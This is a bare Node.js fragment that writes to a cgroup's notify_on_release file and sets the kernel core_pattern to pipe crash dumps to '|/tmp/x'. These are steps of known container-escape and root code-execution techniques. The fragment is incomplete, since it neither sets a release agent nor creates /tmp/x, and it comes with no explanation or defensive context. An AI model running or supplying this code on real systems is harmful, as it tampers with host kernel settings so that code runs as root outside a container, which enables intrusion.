const fs = require('fs');
const group = '/sys/fs/cgroup/rdma/x';
fs.writeFileSync(`${group}/notify_on_release`, '1');
fs.writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/x');
